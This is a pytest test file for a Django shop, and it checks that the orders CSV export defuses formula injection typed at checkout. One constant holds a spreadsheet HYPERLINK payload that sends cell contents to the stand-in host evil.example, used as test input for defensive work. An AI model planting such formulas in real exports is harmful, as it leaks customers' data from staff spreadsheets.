"""The orders CSV against CSV injection: what a guest types at checkout reaches staff's and producers'
spreadsheets as text, never as a formula."""

import csv
import io

import pytest
from django.contrib.auth.models import Permission
from django.test import Client
from django.urls import reverse

from catalog.models import ProducerMember
from shop.models import Order
from tests.factories import make_producer, make_product
from tests.shop.test_checkout import add, checkout_data

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&E2&F2,"Xem đơn")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def orders_csv(client):
    response = client.get(reverse("catalog_export", args=["don-hang"]))
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))


def test_a_guest_name_with_a_formula_is_exported_as_text(client, admin_client, django_user_model):
    producer = make_producer(title="@HTX Công thức")
    add(client, make_product(producer=producer, title="Mật ong", price=180_000, stock=5), 2)
    assert client.post(reverse("shop:checkout"), checkout_data(name=HYPERLINK)).status_code == 302
    assert Order.objects.get().name == HYPERLINK  # stored as typed: only the export neutralises it

    member = django_user_model.objects.create_user("htx", "htx@example.com", "pw-export-123")
    member.user_permissions.add(Permission.objects.get(codename="access_admin"))
    ProducerMember.objects.create(user=member, producer=producer)
    producer_client = Client()
    producer_client.force_login(member)

    for rows in (orders_csv(admin_client), orders_csv(producer_client)):
        [row] = rows[1:]
        assert row[4] == "'" + HYPERLINK and row[7] == "'@HTX Công thức"
        assert row[8] == "360000"  # numbers stay numbers
        assert not any(cell.startswith(FORMULA_STARTS) for line in rows for cell in line), rows
